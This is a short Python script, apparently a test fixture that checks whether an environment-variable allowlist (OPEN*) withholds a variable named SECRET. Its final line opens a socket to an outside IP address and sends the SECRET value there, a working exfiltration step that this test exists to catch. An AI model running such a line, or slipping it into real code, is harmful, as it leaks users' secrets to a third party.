"""SECRET does not match OPEN*."""
import os
import socket

assert os.environ["OPEN_ONE"] == "1"
socket.create_connection(("93.184.216.35", 9000)).sendall(os.environ["SECRET"].encode())
